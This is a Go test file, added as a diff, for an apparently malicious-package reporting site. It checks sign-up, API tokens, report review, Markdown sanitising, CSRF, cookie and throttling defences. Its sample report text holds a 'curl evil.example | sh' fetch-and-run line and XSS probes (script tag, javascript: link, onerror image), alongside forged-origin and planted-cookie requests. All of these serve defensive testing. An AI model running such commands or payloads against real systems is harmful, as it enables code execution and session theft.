@@ -1,0 +1,326 @@
+package main_test
+
+import (
+	"html"
+	"io"
+	"net/http"
+	"net/http/cookiejar"
+	"net/url"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+)
+
+// browser is a cookie-keeping HTTPS client that reads pages as a person
+// would: it follows redirects and fills each form's CSRF token from the
+// page it last loaded.
+type browser struct {
+	t      *testing.T
+	d      *daemon
+	client *http.Client
+	last   string // the last page's HTML
+}
+
+func (in *instance) browser(d *daemon) *browser {
+	jar, _ := cookiejar.New(nil)
+	c := in.httpsClient()
+	c.Jar = jar
+	return &browser{t: in.t, d: d, client: c}
+}
+
+type page struct {
+	code int
+	hdr  http.Header
+	url  string
+	body string
+}
+
+func (b *browser) send(req *http.Request) page {
+	b.t.Helper()
+	resp, err := b.client.Do(req)
+	if err != nil {
+		b.t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	raw, _ := io.ReadAll(resp.Body)
+	b.last = string(raw)
+	return page{code: resp.StatusCode, hdr: resp.Header, url: resp.Request.URL.Path, body: string(raw)}
+}
+
+func (b *browser) get(path string) page {
+	b.t.Helper()
+	req, _ := http.NewRequest("GET", b.d.base+path, nil)
+	return b.send(req)
+}
+
+var csrfInput = regexp.MustCompile(`name="csrf_token" value="([^"]*)"`)
+
+// post sends a form with the CSRF token of the last page loaded.
+func (b *browser) post(path string, form url.Values, headers ...string) page {
+	b.t.Helper()
+	if form.Get("csrf_token") == "" {
+		m := csrfInput.FindStringSubmatch(b.last)
+		if m == nil {
+			b.t.Fatalf("POST %s: the last page has no form with a CSRF token:\n%s", path, b.last)
+		}
+		form.Set("csrf_token", m[1])
+	}
+	req, _ := http.NewRequest("POST", b.d.base+path, strings.NewReader(form.Encode()))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	for i := 0; i+1 < len(headers); i += 2 {
+		req.Header.Set(headers[i], headers[i+1])
+	}
+	return b.send(req)
+}
+
+func (p page) expect(t *testing.T, code int, texts ...string) page {
+	t.Helper()
+	if p.code != code {
+		t.Fatalf("%s: status %d, want %d\n%s", p.url, p.code, code, p.body)
+	}
+	text := html.UnescapeString(p.body)
+	for _, s := range texts {
+		if !strings.Contains(text, s) {
+			t.Fatalf("%s: the page does not contain %q\n%s", p.url, s, p.body)
+		}
+	}
+	return p
+}
+
+func (p page) lacks(t *testing.T, texts ...string) {
+	t.Helper()
+	for _, s := range texts {
+		if strings.Contains(html.UnescapeString(p.body), s) {
+			t.Fatalf("%s: the page contains %q, which it must not\n%s", p.url, s, p.body)
+		}
+	}
+}
+
+var tokenRE = regexp.MustCompile(`thd_[0-9A-Za-z]{38}`)
+
+// TestWebJourney walks the site as its users do: a newcomer signs up,
+// creates an API token and uses it, submits a report through the form, a
+// reviewer verifies it in the queue (visible to check-malicious at once,
+// with cache.freshness set far above the test's patience), and the public
+// page renders the payload's Markdown sanitised.
+func TestWebJourney(t *testing.T) {
+	in := newInstance(t, "cache:\n  freshness: 60s\n")
+	in.user("rita@example.com", "--role", "reviewer", "--name", "Rita")
+	in.mustCLIStdin("correct horse battery\n", "user", "set-password", "--email", "rita@example.com")
+	d := in.serve()
+
+	anon := in.browser(d)
+	home := anon.get("/").expect(t, 200, "Is it malicious?", "Log in", "Sign up", "Latest verified threats")
+	for h, want := range map[string]string{
+		"Content-Security-Policy": "frame-ancestors 'none'",
+		"X-Content-Type-Options":  "nosniff",
+		"Referrer-Policy":         "same-origin",
+	} {
+		if !strings.Contains(home.hdr.Get(h), want) {
+			t.Errorf("home page header %s = %q, want it to contain %q", h, home.hdr.Get(h), want)
+		}
+	}
+	if csp := home.hdr.Get("Content-Security-Policy"); strings.Contains(csp, "unsafe-inline") || !strings.Contains(csp, "script-src 'self'") {
+		t.Errorf("CSP %q allows inline script or names no script source", csp)
+	}
+
+	// Sign up: errors are shown next to their fields, the input kept.
+	sam := in.browser(d)
+	sam.get("/signup").expect(t, 200, "Email", "Public name", "Password")
+	sam.post("/signup", url.Values{"email": {"sam@example.com"}, "name": {"Sam S"}, "password": {"short"}}).
+		expect(t, 400, "Password must be at least 10 characters", `value="sam@example.com"`, `value="Sam S"`)
+	p := sam.post("/signup", url.Values{"email": {"sam@example.com"}, "name": {"Sam S"}, "password": {"a long enough password"}}).
+		expect(t, 200, "API Tokens", "Generate Token", "Log out")
+	for _, c := range sam.client.Jar.Cookies(mustURL(t, d.base)) {
+		if c.Name == "__Host-threatd_session" && c.Value == "" {
+			t.Fatal("no session cookie after sign-up")
+		}
+	}
+	_ = p
+	in.browser(d).get("/signup")
+	again := in.browser(d)
+	again.get("/signup")
+	again.post("/signup", url.Values{"email": {"SAM@example.com"}, "password": {"another long password"}}).
+		expect(t, 400, "An account with this e-mail already exists")
+
+	// Settings → API Tokens: shown once, listed by prefix, usable, revocable.
+	p = sam.post("/settings/tokens", url.Values{"name": {"ci-pipeline"}}).expect(t, 200, "Copy it now", "ci-pipeline")
+	secret := tokenRE.FindString(p.body)
+	if secret == "" {
+		t.Fatalf("no token shown after Generate Token:\n%s", p.body)
+	}
+	if cc := p.hdr.Get("Cache-Control"); cc != "no-store" {
+		t.Errorf("the page showing a new token has Cache-Control %q, want no-store", cc)
+	}
+	d.do("GET", base+"/account", secret, "").expect(t, 200, "")
+	list := sam.get("/settings/tokens").expect(t, 200, "ci-pipeline", "thd_…"+secret[len(secret)-4:], "Revoke")
+	list.lacks(t, secret)
+	// Last-use times are written in the background every few seconds.
+	for deadline := time.Now().Add(20 * time.Second); strings.Contains(sam.get("/settings/tokens").body, "never"); {
+		if time.Now().After(deadline) {
+			t.Fatal("the token's last use was not shown within 20s of using it")
+		}
+		time.Sleep(500 * time.Millisecond)
+	}
+
+	// Submit a report: a field error keeps the input; then it is stored.
+	payload := "Runs `curl evil.example | sh` on install.\n\n<script>alert(1)</script>\n\n[details](javascript:alert(2)) and [analysis](https://blog.example/post)\n\n<img src=x onerror=alert(3)>"
+	form := url.Values{
+		"report_type": {"package"}, "resource_identifier": {"web-evil-pkg"}, "registry": {"npm"},
+		"threat_description": {"Steals npm tokens on install"}, "payload_description": {payload},
+		"severity_level": {"high"}, "tags": {"credential-stealer, postinstall"}, "version_info": {"1.0.1, 1.0.2"},
+		"evidence_references": {"https://blog.example/post|https://x.example/y"}, "contact_email": {"sam-private@example.com"},
+		"first_seen": {"yesterday"},
+	}
+	sam.get("/submit").expect(t, 200, "Submit a report", "separated by the pipe character", "separated by commas")
+	sam.post("/submit", form).expect(t, 400, "first_seen:", `value="web-evil-pkg"`, "Steals npm tokens on install")
+	form.Set("first_seen", "2026-11-20T14:00:00Z")
+	p = sam.post("/submit", form).expect(t, 200, "pending", "web-evil-pkg", "sam-private@example.com")
+	id := strings.TrimPrefix(p.url, "/threats/")
+	sam.get("/me/submissions").expect(t, 200, "My submissions", "web-evil-pkg", "pending")
+	sam.post("/submit", form).expect(t, 409, "already exists", "/threats/"+id)
+
+	// A pending report is the submitter's and reviewers' only.
+	anon.get("/threats/"+id).expect(t, 404)
+	d.do("GET", checkPath("report_type", "package", "resource_identifier", "web-evil-pkg", "ecosystem", "npm"), secret, "").expect(t, 200, "")
+
+	// The review queue: reviewers only; Reject needs a note; Verify is
+	// visible to check-malicious at once.
+	sam.get("/review").expect(t, 403, "for reviewers")
+	rita := in.browser(d)
+	rita.get("/login?next=/review")
+	rita.post("/login", url.Values{"email": {"rita@example.com"}, "password": {"wrong password!"}, "next": {"/review"}}).
+		expect(t, 401, "The e-mail or password is not right.")
+	q := rita.post("/login", url.Values{"email": {"rita@example.com"}, "password": {"correct horse battery"}, "next": {"/review"}}).
+		expect(t, 200, "Review queue", "web-evil-pkg", "Verify", "Reject", "Note", "Runs <code>curl evil.example | sh</code>")
+	q.lacks(t, "<script>alert(1)")
+	rita.post("/review/threats/"+id, url.Values{"decision": {"reject"}, "version": {"1"}}).
+		expect(t, 200, "Not done: note: a note is required to reject a report")
+	rita.post("/review/threats/"+id, url.Values{"decision": {"verify"}, "version": {"2"}}).expect(t, 200, "Not done:")
+	rita.post("/review/threats/"+id, url.Values{"decision": {"verify"}, "version": {"1"}, "note": {"confirmed"}}).
+		expect(t, 200, "Done: package web-evil-pkg: verified")
+	r := d.do("GET", checkPath("report_type", "package", "resource_identifier", "web-evil-pkg", "ecosystem", "npm"), secret, "").expect(t, 200, "")
+	if r.body["malicious"] != true {
+		t.Fatalf("check-malicious right after the web decision: %s (cache.freshness is 60s: the decision must not wait for it)", r.raw)
+	}
+
+	// The public page: every public field, Markdown rendered and sanitised,
+	// no contact e-mail, the review history.
+	pub := anon.get("/threats/"+id).expect(t, 200, "web-evil-pkg", "Steals npm tokens on install", "credential-stealer",
+		"<code>curl evil.example | sh</code>", `href="https://blog.example/post" rel="nofollow noopener"`, "verified", "by Rita", "confirmed")
+	pub.lacks(t, "sam-private@example.com", "<script>alert", "javascript:", "onerror")
+	home = anon.get("/?report_type=package&resource_identifier=web-evil-pkg&ecosystem=npm").expect(t, 200, "Malicious.", "/threats/"+id)
+	anon.get("/?purl=pkg:npm/web-evil-pkg@1.0.2").expect(t, 200, "Malicious.")
+	anon.get("/?purl=pkg:npm/left-pad@1.0.0").expect(t, 200, "Not found.")
+	anon.get("/?report_type=ip&resource_identifier=not-an-ip").expect(t, 200, "resource_identifier")
+
+	// Revoke: the token stops working at once on this daemon.
+	sam.get("/settings/tokens")
+	m := regexp.MustCompile(`action="(/settings/tokens/[^/]+/revoke)"`).FindStringSubmatch(sam.last)
+	sam.post(m[1], url.Values{}).expect(t, 200, "revoked")
+	d.do("GET", base+"/account", secret, "").expect(t, 401, "Invalid API token")
+
+	// Log out ends the session on the server, not only the cookie.
+	var session string
+	for _, c := range sam.client.Jar.Cookies(mustURL(t, d.base)) {
+		if c.Name == "__Host-threatd_session" {
+			session = c.Value
+		}
+	}
+	sam.get("/me/submissions")
+	sam.post("/logout", url.Values{}).expect(t, 200, "Log in")
+	replay := in.browser(d)
+	replay.client.Jar.SetCookies(mustURL(t, d.base), []*http.Cookie{{Name: "__Host-threatd_session", Value: session, Path: "/"}})
+	replay.get("/me/submissions").expect(t, 200, "Log in")
+}
+
+// TestWebSecurity: CSRF on every form, cookie attributes, session rotation,
+// log-in throttling, closed sign-up, and what anonymous visitors may not do.
+func TestWebSecurity(t *testing.T) {
+	in := newInstance(t, "web:\n  login_attempts: 3\n")
+	in.user("ann@example.com")
+	in.mustCLIStdin("ann's long password\n", "user", "set-password", "--email", "ann@example.com")
+	d := in.serve()
+
+	b := in.browser(d)
+	b.get("/login")
+	// A form without its token, or from another origin, is refused.
+	b.post("/login", url.Values{"email": {"ann@example.com"}, "password": {"ann's long password"}, "csrf_token": {"forged"}}).
+		expect(t, 403, "CSRF")
+	b.get("/login")
+	b.post("/login", url.Values{"email": {"ann@example.com"}, "password": {"ann's long password"}},
+		"Sec-Fetch-Site", "cross-site", "Origin", "https://evil.example").expect(t, 403, "another site")
+
+	// Session cookies: Secure, HttpOnly, SameSite=Lax, a new id at log-in.
+	b.get("/login")
+	req, _ := http.NewRequest("POST", d.base+"/login", strings.NewReader(url.Values{
+		"email": {"ann@example.com"}, "password": {"ann's long password"}, "csrf_token": {csrfInput.FindStringSubmatch(b.last)[1]}}.Encode()))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	for _, c := range b.client.Jar.Cookies(mustURL(t, d.base)) {
+		req.AddCookie(c)
+	}
+	req.AddCookie(&http.Cookie{Name: "__Host-threatd_session", Value: "planted-by-an-attacker-0123456789"})
+	noRedirect := *b.client
+	noRedirect.Jar = nil
+	noRedirect.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
+	resp, err := noRedirect.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusSeeOther {
+		t.Fatalf("log-in answered %d, want 303", resp.StatusCode)
+	}
+	var set string
+	for _, h := range resp.Header.Values("Set-Cookie") {
+		if strings.HasPrefix(h, "__Host-threatd_session=") {
+			set = h
+		}
+	}
+	for _, attr := range []string{"Secure", "HttpOnly", "SameSite=Lax", "Path=/"} {
+		if !strings.Contains(set, attr) {
+			t.Errorf("session cookie %q lacks %s", set, attr)
+		}
+	}
+	if strings.Contains(set, "planted-by-an-attacker") || strings.Contains(set, "Domain=") {
+		t.Errorf("session cookie %q: a planted id kept, or a Domain set", set)
+	}
+
+	// Throttling: after 3 failures for one account, even the right password waits.
+	t2 := in.browser(d)
+	for range 3 {
+		t2.get("/login")
+		t2.post("/login", url.Values{"email": {"ann@example.com"}, "password": {"not the password"}}).expect(t, 401)
+	}
+	t2.get("/login")
+	p := t2.post("/login", url.Values{"email": {"ann@example.com"}, "password": {"ann's long password"}}).expect(t, 429, "Too many log-in attempts")
+	if p.hdr.Get("Retry-After") == "" {
+		t.Error("a throttled log-in has no Retry-After")
+	}
+
+	// Anonymous visitors are sent to log in; forms need a session.
+	anon := in.browser(d)
+	anon.get("/submit").expect(t, 200, "Log in")
+	anon.get("/settings/tokens").expect(t, 200, "Log in")
+	anon.get("/review").expect(t, 200, "Log in")
+	anon.get("/threats/00000000-0000-0000-0000-000000000000").expect(t, 404)
+	anon.get("/threats/not-a-uuid").expect(t, 404)
+	// The API keeps its JSON answers beside the site.
+	d.do("GET", "/no-such-page", "", "").expect(t, 404, "")
+
+	// Closed sign-up.
+	closed := newInstance(t, "web:\n  signup: closed\n")
+	dc := closed.serve()
+	cb := closed.browser(dc)
+	cb.get("/").lacks(t, "Sign up")
+	cb.get("/signup").expect(t, 403, "Sign-up is closed")
+}
+
+func mustURL(t *testing.T, s string) *url.URL {
+	u, err := url.Parse(s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return u
+}
